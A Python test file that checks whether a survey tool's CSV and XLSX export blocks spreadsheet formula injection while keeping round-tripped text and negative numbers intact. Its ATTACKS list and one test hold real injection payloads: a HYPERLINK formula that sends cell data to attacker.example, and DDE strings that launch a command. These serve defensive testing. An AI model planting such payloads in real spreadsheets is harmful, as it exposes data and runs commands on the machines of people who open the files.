"""No exported text runs as a spreadsheet formula, and the readers give back what was written."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from eclaire.core.instrument_loader import load_default_instrument
from eclaire.core.interchange import read_responses, read_units, write_table
from eclaire.core.interchange.formulas import FORMULA_STARTS, neutralize, restore
from eclaire.core.sample import generate_sample, write_sample

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"voir")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''-twice",
]
HARMLESS = ["'bonjour", "Livraison sous 48 h", "a=b", "", "« Zéro retard »"]

UNITS = pd.DataFrame(
    {
        "unit_id": ["DIR", "ADV", "SUP", "LOG", "X1", "X2", "X3"],
        "name": ["=1+1", "-Logistique", "@ADV", "+Support", *ATTACKS[3:]],
        "parent_id": [None, "DIR", "DIR", "DIR", "DIR", "DIR", "DIR"],
        "function": [
            "management",
            "sales_admin",
            "support",
            "logistics",
            "other",
            "other",
            "other",
        ],
        "site_kind": [
            "head_office",
            "head_office",
            "head_office",
            "field",
            "field",
            "field",
            "field",
        ],
    }
)


@pytest.mark.parametrize("text", ATTACKS + HARMLESS + ["\tx", "\r=1"])
def test_neutralized_texts_are_given_back_by_restore(text: str) -> None:
    written = neutralize(text)
    assert isinstance(written, str)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == text


def test_numbers_and_harmless_texts_are_written_unchanged() -> None:
    assert neutralize(-3) == -3 and neutralize(-2.5) == -2.5 and neutralize(None) is None
    assert [neutralize(t) for t in HARMLESS] == HARMLESS


def test_csv_cells_beginning_like_a_formula_are_quoted_and_negative_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    frame = pd.DataFrame({"text": ATTACKS, "number": [-3, -1, 0, 2, -7, 5]})
    path = tmp_path / "table.csv"
    write_table(frame, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    texts = [row[0] for row in rows[1:]]
    assert all(t.startswith("'") for t in texts)
    assert [row[1] for row in rows[1:]] == ["-3", "-1", "0", "2", "-7", "5"]


def test_xlsx_holds_no_formula_and_keeps_numbers_as_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": ATTACKS, "number": [-3, -1, 0, 2, -7, 5]})
    path = tmp_path / "table.xlsx"
    write_table(frame, path)
    sheet = load_workbook(path)["table"]
    texts = [row[0] for row in sheet.iter_rows(min_row=2)]
    numbers = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in texts] == ["s"] * len(ATTACKS)
    assert [c.value for c in texts] == ATTACKS
    assert all(c.quotePrefix for c in texts)
    assert [c.value for c in numbers] == [-3, -1, 0, 2, -7, 5]
    assert {c.data_type for c in numbers} == {"n"}


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_units_with_formula_like_names_survive_a_round_trip(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"units.{suffix}"
    write_table(UNITS, path)
    back = read_units(path)
    assert back["name"].tolist() == UNITS["name"].tolist()


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_free_text_answers_survive_a_round_trip(tmp_path: Path, suffix: str) -> None:
    frame = pd.DataFrame(
        {
            "unit_id": ["ADV"] * 3,
            "role": ["member"] * 3,
            "CR1": [4.0, 2.0, 5.0],
            "text:MSG_PROMISE": ["=48h", "-1 jour", "'+ rapide"],
        }
    )
    path = tmp_path / f"responses.{suffix}"
    write_table(frame, path)
    back = read_responses(path, load_default_instrument("coherence"), unit_ids={"ADV"})
    assert back.frame["text:MSG_PROMISE"].tolist() == ["=48h", "-1 jour", "'+ rapide"]


def test_the_sample_writer_quotes_formula_like_texts(tmp_path: Path) -> None:
    sample = generate_sample(
        units=12, people=220, seed=3, instrument=load_default_instrument("coherence")
    )
    first = sample.units.index[0]
    sample.units.loc[first, "name"] = "=cmd|' /C calc'!A0"
    write_sample(sample, tmp_path)
    text = (tmp_path / "units.csv").read_text(encoding="utf-8")
    assert "\n=cmd" not in text and ",=cmd" not in text
    assert "'=cmd" in text
